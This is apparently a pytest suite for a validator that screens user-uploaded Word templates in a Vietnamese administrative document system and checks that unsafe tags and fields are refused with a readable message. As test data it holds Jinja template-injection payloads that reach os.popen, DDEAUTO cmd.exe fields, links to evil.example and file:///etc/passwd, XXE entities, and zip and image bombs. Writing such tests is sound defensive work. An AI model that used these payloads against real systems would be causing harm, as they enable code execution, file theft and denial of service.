"""A template that somebody uploaded is read without being run, and refused with a sentence."""

import struct
import zlib

import pytest
from docx import Document

from guongsang.foundation import documents
from guongsang.foundation.documents import PaperError, Picture, render_docx
from guongsang.foundation.word_templates import check_template, differences
from guongsang.foundation.word_templates.shapes import shape_of
from guongsang.papers.rules import blank_png
from tests.foundation.hostile_templates import (
    BODY,
    changed,
    in_runs,
    part,
    saved,
    table,
    template,
    text_of,
    tied,
    with_xml,
)

SAMPLE = {
    "body": "Ủy ban nhân dân phường Đức Xuân",
    "number": "05/QĐ-UBND",
    "is_draft": True,
    "recipients": ["Như Điều 3;", "Lưu: VT."],
    "rows": [{"name": "Nông Văn Ba", "numbers": ["1", "2"]}],
    "pairs": [["Điều 1.", "Công nhận"]],
    "annex": {"title": "Danh sách", "rows": [["1", "Ba"]]},
    "qr": Picture(blank_png(), 20),
}
EXPLAINED = {"body": "Cơ quan ban hành", "number": "Số, ký hiệu", "rows": "Danh sách"}


def faults(content: bytes) -> list[str]:
    found = check_template(content, sample=SAMPLE, explained=EXPLAINED)
    return [str(fault) for fault in found]


def only(content: bytes) -> str:
    (fault,) = faults(content)
    return fault


def test_an_honest_template_passes_with_loops_conditions_filters_and_a_picture():
    honest = template(
        "{{ body|upper }}",
        "{% if number %}Số: {{ number|default('...') }}{% else %}chưa số{% endif %}",
        "{%p if is_draft and not number == '1' %}",
        "Dự thảo",
        "{%p endif %}",
        "{%p for one in recipients %}",
        "{{ loop.index }}. {{ '- ' ~ one }}{% if not loop.last %};{% endif %}",
        "{%p endfor %}",
        "{%p for pair in pairs %}",
        "{{ pair[0] }} {{ pair[1] }}",
        "{%p endfor %}",
        "{{ annex.title }}: {{ annex.rows|length }}; {{ recipients|join(', ') }}",
        "{% if rows %}{{ rows[0].name }}{% endif %}",
        "{{ 'a' if is_draft else body }}{# ghi chú #}{{ qr }}",
        "{% if body is defined or number %}x{% endif %}",
        header="{{ body }}",
        footer="{{ number }}",
    )

    assert faults(honest) == []


def test_rows_of_a_table_repeat_inside_a_loop_of_rows():
    honest = table(
        ("{%tr for row in rows %}", ""),
        ("{{ row.name }}", "{% for one in row.numbers %}{{ one }} {% endfor %}"),
        ("{%tr endfor %}", ""),
    )

    assert faults(honest) == []
    assert "Nông Văn Ba" in text_of(render_docx(honest, SAMPLE))


def test_a_tag_that_word_has_cut_into_runs_is_read_as_one():
    assert faults(in_runs("{", "{ bo", "dy ", "}}")) == []
    assert "không có trường «nmber»" in only(in_runs("{{ nm", "ber }", "}"))


@pytest.mark.parametrize(
    ("words", "told"),
    [
        ("{{ nmber }}", "Văn bản này không có trường «nmber». Có phải «number»?"),
        ("{{ co_quan_ban_hanh }}", "không có trường «co_quan_ban_hanh». Có phải «body»?"),
        ("{{ zzz }}", "Văn bản này không có trường «zzz». (Ở"),
        ("{% for r in rows %}{{ r.nam }}{% endfor %}", "«r» không có cột «nam». Có phải «name»?"),
        ("{{ rows }}", "«rows» là danh sách: hãy lặp qua nó"),
        ("{{ rows.name }}", "«rows» là danh sách: hãy lặp qua nó rồi lấy cột"),
        ("{{ annex }}", "gồm nhiều phần"),
        ("{{ is_draft }}", "chỉ dùng trong thẻ if"),
        ("{{ body.name }}", "«body» không có phần «name»"),
        ("{{ body[0] }}", "không lấy được theo số thứ tự"),
        ("{{ rows[body] }}", "chỉ ghi một số thứ tự"),
        ("{{ rows[5000] }}", "không lấy được theo số thứ tự"),
        ("{% for x in body %}{% endfor %}", "«body» không phải danh sách"),
        ("{% for a, b in pairs %}{% endfor %}", "chỉ ghi một tên"),
        ("{% for loop in rows %}{% endfor %}", "không dùng được"),
        ("{% for x in rows recursive %}{% endfor %}", "không dùng được"),
        ("{{ body|safe }}", "Bộ lọc «safe» không dùng được"),
        ("{{ body|replace('', 'x') }}", "Bộ lọc «replace» viết chưa đúng"),
        ("{{ rows|join(', ', 'name') }}", "Bộ lọc «join» viết chưa đúng"),
        ("{{ recipients|join(', ', attribute='x') }}", "Bộ lọc «join» viết chưa đúng"),
        ("{{ 'a' * 10 }}", "không tính toán"),
        ("{{ 3 + 4 }}", "không tính toán"),
        ("{{ [1, 2] }}", "không tính toán"),
        ("{{ body ~ rows }}", "Chỉ nối được chữ với chữ"),
        ("{{ '" + "a" * 300 + "' }}", "dài quá 200 ký tự"),
        ("{% if body == 99999 %}x{% endif %}", "Số trong thẻ lớn quá"),
        ("{{ body|upper|lower is divisibleby 3 }}", "không tính toán"),
        ("{{ qr|default('x') }}", "Bộ lọc «default» viết chưa đúng"),
        ("{{ qr if is_draft else qr }}", "Hình phải đứng một mình"),
    ],
)
def test_what_is_wrong_with_a_tag_is_said_with_its_place(words, told):
    fault = only(template("Mở đầu", words))

    assert told in fault
    assert "thân văn bản: «" in fault


@pytest.mark.parametrize(
    ("lines", "told"),
    [
        (["{%p for r in rows %}", "x"], "Thẻ «for» mở ở đây chưa có «endfor» đóng lại."),
        (["{% if body %}x"], "Thẻ «if» mở ở đây chưa có «endif» đóng lại."),
        (["{%p endfor %}"], "Thẻ «endfor» không có thẻ mở đi trước nó."),
        (["{% if body %}", "{% endfor %}{% endif %}"], "Thẻ «endfor» không có thẻ mở"),
        (["{% else %}"], "Thẻ «else» không có thẻ mở"),
        (["{% for r rows %}x{% endfor %}"], "Thẻ viết chưa đúng"),
        (["{{ body }"], "chưa đóng bằng «}}» trong cùng một đoạn"),
        (["{{ body", "}}"], "chưa đóng"),
        (["body }}"], "không đi thành cặp"),
        (["{{ a {{ b }}"], "không đi thành cặp"),
        (["{%- if body %}x{% endif %}"], "Thẻ này không dùng được"),
        (["{{r body }}"], "Thẻ này không dùng được"),
        (["{% cellbg body %}"], "Thẻ này không dùng được"),
    ],
)
def test_a_broken_loop_or_condition_is_said_with_its_place(lines, told):
    found = faults(template(*lines))

    assert any(told in fault for fault in found)
    assert all("(Ở" in fault for fault in found)


@pytest.mark.parametrize(
    "tag",
    ["set x = 1", "macro m()", "import 'x' as y", "include 'x'", "extends 'x'", "block b",
     "filter upper", "call m()", "with a = 1", "autoescape false", "do x", "from 'x' import y"],
)  # fmt: skip
def test_only_loops_and_conditions_may_stand_in_a_template(tag):
    found = faults(template(f"{{% {tag} %}}"))

    assert any(f"Thẻ «{tag.split()[0]}» không dùng được trong mẫu." in fault for fault in found)


def test_raw_text_is_refused_because_nobody_would_see_what_it_hides():
    assert "Thẻ «raw»" in faults(template("{% raw %}{{ body }}{% endraw %}"))[0]


@pytest.mark.parametrize(
    "attack",
    [
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{{ body.__class__ }}",
        "{{ body['__class__'] }}",
        "{{ rows[0]['__init__']['__globals__'] }}",
        "{{ body|attr('__class__') }}",
        "{{ lipsum.__globals__['os'].popen('id') }}",
        "{{ self._TemplateReference__context }}",
        "{{ cycler.__init__ }}",
        "{{ namespace() }}",
        "{{ range(10**9) }}",
        "{% for i in range(1000000000) %}x{% endfor %}",
        "{% for i in [1, 2] %}x{% endfor %}",
        "{% for i in rows * 9 %}x{% endfor %}",
        "{% for a in rows %}{% for b in rows %}x{% endfor %}{% endfor %}",
        "{% for a in annex.rows %}{% for b in annex['rows'] %}x{% endfor %}{% endfor %}",
        "{% for a in rows %}{% for b in recipients %}{% for c in pairs %}{% for d in annex.rows %}x"
        "{% endfor %}{% endfor %}{% endfor %}{% endfor %}",
        "{{ body.format(body) }}",
        "{{ '%s'|format(body) }}",
        "{{ body|map('upper') }}",
        "{{ body|center(999999999) }}",
        "{{ dict(a=1) }}",
        "{{ loop.cycle('a') }}",
        "{{ _ }}",
        "{% if body.__class__ %}x{% endif %}",
        "{{ (body).__add__('x') }}",
        "{{ body ~ ''.__class__ }}",
    ],
)
def test_no_walk_through_attributes_and_no_endless_loop_passes(attack, monkeypatch):
    monkeypatch.setattr(documents.DocxTemplate, "render", _never_run)

    assert faults(template(attack))


@pytest.mark.parametrize("where", ["header", "footer"])
def test_the_edges_of_the_page_are_read_as_strictly_as_its_middle(where, monkeypatch):
    monkeypatch.setattr(documents.DocxTemplate, "render", _never_run)

    assert faults(template("Xin chào", **{where: "{{ body.__class__ }}"}))


def _never_run(*_args, **_kwargs):
    raise AssertionError("a hostile template was filled")


@pytest.mark.parametrize(
    ("file", "told"),
    [
        (tied("attachedTemplate", "http://evil.example/x.dotm"), "nối ra bên ngoài"),
        (tied("image", "http://evil.example/x.png"), "nối ra bên ngoài"),
        (tied("image", "file:///etc/passwd"), "nối ra bên ngoài"),
        (tied("hyperlink", "file:///etc/passwd"), "nối ra bên ngoài"),
        (tied("hyperlink", "https://evil.example/{{ body }}"), "nối ra bên ngoài"),
        (tied("oleObject", "embeddings/a.bin", external=False), "nhúng đối tượng"),
        (tied("control", "activeX/a.xml", external=False), "nhúng đối tượng"),
        (tied("aFChunk", "chunk.html", external=False), "không dùng được"),
        (tied("webExtension", "x.xml", external=False), "không dùng được"),
        (changed(template("a"), {"word/vbaProject.bin": b"x"}), "macro"),
        (changed(template("a"), {"word/embeddings/a.bin": b"x"}), "nhúng đối tượng"),
        (changed(template("a"), {"word/activeX/a.xml": b"<a/>"}), "nhúng đối tượng"),
        (changed(template("a"), {"word/media/a.svg": b"<svg/>"}), "không phải PNG hoặc JPEG"),
        (changed(template("a"), {"../out.xml": b"<a/>"}), "Không mở được tệp"),
        (changed(template("a"), {"word/document.xml": None}), "Word"),
        (changed(template("a"), {"[Content_Types].xml": None}), "Không mở được tệp"),
        (b"", "Không mở được tệp"),
        (b"PK\x03\x04 broken", "Không mở được tệp"),
        (b"\xd0\xcf\x11\xe0" + b"x" * 100, "mật khẩu"),
        (b"x" * (5 * 2**20 + 1), "vượt mức 5 MB"),
    ],
)
def test_what_fetches_or_runs_something_is_refused_with_a_sentence(file, told):
    assert told in only(file)


def test_links_to_pages_that_one_can_read_are_let_pass():
    assert faults(tied("hyperlink", "https://ducxuan.gov.vn/")) == []


def test_a_document_with_macros_is_no_template_whatever_it_is_called():
    plain = template("a")
    kinds = part(plain, "[Content_Types].xml").replace(
        "vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        "vnd.ms-word.document.macroEnabled.main+xml",
    )

    assert "macro" in only(changed(plain, {"[Content_Types].xml": kinds.encode()}))


@pytest.mark.parametrize(
    "xml",
    [
        '<!DOCTYPE d [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><d>&b;</d>',
        '<!DOCTYPE d SYSTEM "file:///etc/passwd"><d/>',
        '<?xml version="1.0" encoding="utf-7"?><d/>',
    ],
)
@pytest.mark.parametrize("name", ["word/settings.xml", "customXml/x.xml", BODY])
def test_entities_and_strange_alphabets_are_refused(xml, name):
    assert "XML" in only(changed(template("a"), {name: xml.encode()})) or name == BODY


def test_a_bomb_is_refused_before_it_is_opened():
    bomb = changed(template("a"), {"word/media/a.png": b"\0" * 40_000_000})

    assert "bung ra quá lớn" in only(bomb)


def test_a_part_longer_than_any_paper_is_refused():
    long = changed(template("a"), {"word/x.xml": b"<a>" + bytes(range(97, 122)) * 60_000 + b"</a>"})

    assert "Mẫu dài quá mức" in only(long)


def test_a_giant_picture_is_refused_by_its_points_and_never_drawn():
    head = struct.pack(">IIBBBBB", 30_000, 30_000, 8, 2, 0, 0, 0)
    png = (
        b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + b"IHDR" + head
        + struct.pack(">I", zlib.crc32(b"IHDR" + head))
        + struct.pack(">I", 4) + b"IDATaaaa"
    )  # fmt: skip

    assert "quá lớn" in only(changed(template("a"), {"word/media/a.png": png}))


def field_of_word(*codes: str) -> str:
    runs = "".join(f"<w:r><w:instrText>{code}</w:instrText></w:r>" for code in codes)
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{one}"/></w:r>' for one in ("begin", "end"))
    return f"{begin}{runs}{end}"


@pytest.mark.parametrize(
    "xml",
    [
        field_of_word('DDEAUTO c:\\\\cmd.exe "/k calc"'),
        field_of_word("INCLUDE", 'PICTURE "http://evil.example/x.png"'),
        field_of_word('INCLUDETEXT "\\\\\\\\evil\\\\x"'),
        field_of_word("QUOTE 68 68 69"),
        field_of_word('HYPERLINK "{{ body }}"'),
        field_of_word("PAGE", field_of_word("DDE x")),
        '<w:fldSimple w:instr="LINK Excel.Sheet c:\\\\x"/>',
        "<w:r><w:instrText>DDE x</w:instrText></w:r>",
        '<w:altChunk r:id="rId1"/>',
        "<w:r><w:object/></w:r>",
        "<w:subDoc r:id='rId1'/>",
    ],
)
def test_fields_of_word_that_fetch_or_run_are_refused(xml):
    found = faults(with_xml(xml))

    assert found
    assert all("Mẫu có" in fault for fault in found)


def test_page_numbers_and_dates_of_word_stay_allowed():
    assert faults(with_xml(field_of_word("PAGE") + field_of_word(' DATE \\@ "dd/MM/yyyy" '))) == []


def test_deletions_that_word_still_remembers_are_refused_because_they_are_read_too():
    deleted = '<w:del w:id="1" w:author="x"><w:r><w:delText>{{ old }}</w:delText></w:r></w:del>'

    assert "Track Changes" in faults(with_xml(deleted))[0]


def test_tags_outside_the_words_are_refused():
    assert "Thuộc tính của tệp" in only(template("a", title="{{ body }}"))
    hidden = '<w:hyperlink w:tooltip="{{ body }}"><w:r><w:t>a</w:t></w:r></w:hyperlink>'
    assert "không đặt trong ghi chú" in faults(with_xml(hidden))[0]


def test_every_fault_is_told_at_once_and_no_more_than_twenty():
    many = faults(template(*(f"{{{{ sai{number} }}}}" for number in range(40))))

    assert len(many) == 20


def test_a_place_in_a_table_or_the_head_of_the_page_is_called_so():
    assert "(Ở bảng: «" in only(table(("{{ nmber }}", "x")))
    assert "(Ở đầu trang: «" in only(template("a", header="{{ nmber }}"))
    assert "(Ở chân trang: «" in only(template("a", footer="{{ nmber }}"))


@pytest.mark.parametrize(
    ("inside", "after"),
    [("{% for r in rows %}", "{% endfor %}"), ("{%tr if body %}", "{%p endif %}")],
)
def test_a_loop_that_cuts_a_table_in_two_is_told_with_its_place(inside, after):
    document = Document()
    document.add_table(rows=1, cols=1).rows[0].cells[0].text = inside
    document.add_paragraph(after)

    assert "không cùng chỗ" in only(saved(document))
    assert "(Ở bảng: «" in only(saved(document))


def test_what_an_empty_list_would_break_is_told_before_it_breaks():
    assert "Khi danh sách trống" in only(template("{{ rows[0].name }}"))


def test_a_paper_that_grows_beyond_any_measure_is_stopped(monkeypatch):
    monkeypatch.setattr(documents, "MOST_LETTERS", 2_000)
    long = template("{% for one in recipients %}{{ one }}{% endfor %}")

    with pytest.raises(PaperError):
        render_docx(long, {"recipients": ["x" * 100] * 1_000})


def test_names_with_tags_and_angle_brackets_print_as_they_are():
    paper = render_docx(template("{{ body }}"), {"body": "{{ 7*7 }} <b> & “Ba”"})

    assert "{{ 7*7 }} <b> & “Ba”" in text_of(paper)


def test_the_shape_of_data_is_compared_with_the_sample():
    assert differences(SAMPLE, SAMPLE) == []
    assert differences({"a": "", "c": []}, {"a": True, "b": "", "c": [""]}) == ["-b", "~a"]
    assert differences({"r": [{"x": ""}]}, {"r": [{"y": ""}]}) == ["+r[].x", "-r[].y"]
    assert shape_of([[], ["a"]]) == shape_of([["a"]])


def test_footnotes_are_read_too():
    kind = "application/vnd.openxmlformats-officedocument.wordprocessingml.footnotes+xml"
    noted = tied("footnotes", "footnotes.xml", external=False)
    kinds = part(noted, "[Content_Types].xml").replace(
        "</Types>", f'<Override PartName="/word/footnotes.xml" ContentType="{kind}"/></Types>'
    )
    told = (
        '<w:footnotes xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        "<w:footnote><w:p><w:r><w:t>{{ nmber }}</w:t></w:r></w:p></w:footnote></w:footnotes>"
    )
    parts = {"[Content_Types].xml": kinds.encode(), "word/footnotes.xml": told.encode()}

    assert "(Ở chú thích: «" in only(changed(noted, parts))
